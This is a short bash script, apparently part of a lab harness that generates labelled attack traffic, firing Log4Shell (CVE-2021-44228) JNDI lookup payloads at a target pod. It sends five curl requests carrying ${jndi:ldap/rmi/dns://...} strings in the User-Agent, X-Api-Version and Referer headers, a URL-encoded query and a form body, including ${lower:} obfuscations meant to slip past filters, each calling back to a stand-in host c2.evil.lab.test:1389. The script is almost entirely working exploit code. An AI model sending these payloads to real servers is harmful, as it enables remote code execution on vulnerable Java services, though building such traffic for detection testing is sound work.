#!/usr/bin/env bash
# Exploitation: Log4Shell (CVE-2021-44228) JNDI lookups in headers, URI and body
# sent to the legacy app, with the common obfuscations.
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip legacy)
lab_assert_target "$T" "$EXT_C2_IP"
gt_begin log4shell exploitation curl pod:toolbox pod:legacy 'Log4Shell ${jndi:ldap://…} in User-Agent, X-Api-Version, URI and form body'
ns=$(lab_pod_ns toolbox)
cb="c2.evil.lab.test:1389"
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -A "\${jndi:ldap://$cb/Exploit}" "http://$T:8080/" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H "X-Api-Version: \${jndi:ldap://$cb/a}" "http://$T:8080/api" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H "Referer: \${\${lower:j}ndi:\${lower:l}dap://$cb/b}" "http://$T:8080/login" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "http://$T:8080/?q=%24%7Bjndi%3Adns%3A%2F%2F$cb%2Fc%7D" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -d "user=\${jndi:rmi://$cb/d}&pass=x" "http://$T:8080/login" || true
gt_end '{"dport":8080}'
